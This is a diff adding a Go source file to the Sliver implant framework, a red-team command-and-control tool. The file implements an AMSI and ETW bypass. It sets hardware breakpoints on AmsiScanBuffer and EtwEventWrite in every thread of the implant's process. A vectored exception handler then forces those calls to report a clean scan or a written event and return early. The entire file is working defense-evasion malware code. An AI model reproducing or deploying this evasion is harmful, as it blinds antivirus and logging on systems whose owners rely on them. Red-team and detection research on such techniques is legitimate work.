@@ -0,0 +1,182 @@
+package taskrunner
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"errors"
+	"sync"
+	"unsafe"
+
+	// {{if .Config.Debug}}
+	"log"
+	// {{end}}
+
+	"github.com/bishopfox/sliver/implant/sliver/syscalls"
+	"golang.org/x/sys/windows"
+)
+
+const (
+	exceptionSingleStep        = 0x80000004
+	exceptionContinueExecution = ^uintptr(0) // -1
+	exceptionContinueSearch    = 0
+
+	amsiResultClean = 0
+)
+
+var (
+	// The functions the debug registers break on, dr0 is AMSI and dr1 is ETW
+	breakpoints [2]uintptr
+
+	breakpointHandlerOnce sync.Once
+	breakpointHandlerErr  error
+)
+
+type exceptionRecord struct {
+	ExceptionCode    uint32
+	ExceptionFlags   uint32
+	ExceptionRecord  uintptr
+	ExceptionAddress uintptr
+}
+
+type exceptionPointers struct {
+	ExceptionRecord *exceptionRecord
+	ContextRecord   *syscalls.CONTEXT
+}
+
+// breakpointLocal - Break on AmsiScanBuffer and/or EtwEventWrite in every thread of the
+// implant's process, threads started later aren't covered until the next task sets them
+func breakpointLocal(amsi bool, etw bool) error {
+	breakpointHandlerOnce.Do(func() {
+		// First in line, before the go runtime's handler sees the exception
+		if syscalls.AddVectoredExceptionHandler(1, windows.NewCallback(breakpointHandler)) == 0 {
+			breakpointHandlerErr = errors.New("failed to add exception handler")
+		}
+	})
+	if breakpointHandlerErr != nil {
+		return breakpointHandlerErr
+	}
+	if amsi {
+		proc := windows.NewLazyDLL(amsiDllPath).NewProc("AmsiScanBuffer")
+		err := proc.Find()
+		if err != nil {
+			return err
+		}
+		breakpoints[0] = proc.Addr()
+	}
+	if etw {
+		proc := windows.NewLazyDLL(ntdllPath).NewProc(etwProcs[0])
+		err := proc.Find()
+		if err != nil {
+			return err
+		}
+		breakpoints[1] = proc.Addr()
+	}
+	return setBreakpoints()
+}
+
+// setBreakpoints - Load the breakpoints into the debug registers of the process' threads.
+// The kernel sets a thread's context from an APC on that thread, so only changing the
+// debug registers doesn't need the thread to be suspended.
+func setBreakpoints() error {
+	snapshot, err := windows.CreateToolhelp32Snapshot(windows.TH32CS_SNAPTHREAD, 0)
+	if err != nil {
+		return err
+	}
+	defer windows.CloseHandle(snapshot)
+	pid := windows.GetCurrentProcessId()
+	ctx := syscalls.NewContext(syscalls.CONTEXT_AMD64_DEBUG_REGISTERS)
+	set := 0
+	entry := windows.ThreadEntry32{Size: uint32(unsafe.Sizeof(windows.ThreadEntry32{}))}
+	for err = windows.Thread32First(snapshot, &entry); err == nil; err = windows.Thread32Next(snapshot, &entry) {
+		if entry.OwnerProcessID != pid {
+			continue
+		}
+		thread, err := windows.OpenThread(windows.THREAD_GET_CONTEXT|windows.THREAD_SET_CONTEXT, false, entry.ThreadID)
+		if err != nil {
+			// {{if .Config.Debug}}
+			log.Printf("failed to open thread %d: %s", entry.ThreadID, err)
+			// {{end}}
+			continue
+		}
+		err = setDebugRegisters(thread, ctx)
+		windows.CloseHandle(thread)
+		if err != nil {
+			// {{if .Config.Debug}}
+			log.Printf("failed to set breakpoints on thread %d: %s", entry.ThreadID, err)
+			// {{end}}
+			continue
+		}
+		set++
+	}
+	if set == 0 {
+		return ErrNoThreads
+	}
+	return nil
+}
+
+func setDebugRegisters(thread windows.Handle, ctx *syscalls.CONTEXT) error {
+	ctx.ContextFlags = syscalls.CONTEXT_AMD64_DEBUG_REGISTERS
+	err := syscalls.GetThreadContext(thread, ctx)
+	if err != nil {
+		return err
+	}
+	ctx.Dr0 = uint64(breakpoints[0])
+	ctx.Dr1 = uint64(breakpoints[1])
+	// Clear the enable bits of dr0 and dr1, then their conditions and lengths so they
+	// break on execution of the first byte, and locally enable the ones that are set
+	ctx.Dr7 &^= 0xf | 0xff<<16
+	for slot, addr := range breakpoints {
+		if addr != 0 {
+			ctx.Dr7 |= 1 << (2 * slot)
+		}
+	}
+	return syscalls.SetThreadContext(thread, ctx)
+}
+
+// breakpointHandler - Return from the function a breakpoint hit as if it succeeded, AMSI
+// reports the buffer as clean and ETW that the event was written
+func breakpointHandler(info *exceptionPointers) uintptr {
+	if info.ExceptionRecord.ExceptionCode != exceptionSingleStep {
+		return exceptionContinueSearch
+	}
+	ctx := info.ContextRecord
+	rip := uintptr(ctx.Rip)
+	switch {
+	case breakpoints[0] != 0 && rip == breakpoints[0]:
+		// AmsiScanBuffer's sixth argument, the AMSI_RESULT, is on the stack above the
+		// return address and the home space of the first four
+		result := *(*uintptr)(stackSlot(ctx.Rsp, 6))
+		*(*uint32)(stackSlot(uint64(result), 0)) = amsiResultClean
+		ctx.Rax = 0 // S_OK
+	case breakpoints[1] != 0 && rip == breakpoints[1]:
+		ctx.Rax = 0 // ERROR_SUCCESS
+	default:
+		return exceptionContinueSearch
+	}
+	ctx.Rip = *(*uint64)(stackSlot(ctx.Rsp, 0))
+	ctx.Rsp += 8
+	return exceptionContinueExecution
+}
+
+// stackSlot - A pointer to the index'th 8 byte slot from the address, the address is
+// memory owned by the thread that hit the breakpoint, not the go heap
+func stackSlot(address uint64, index uint64) unsafe.Pointer {
+	address += index * 8
+	return *(*unsafe.Pointer)(unsafe.Pointer(&address))
+}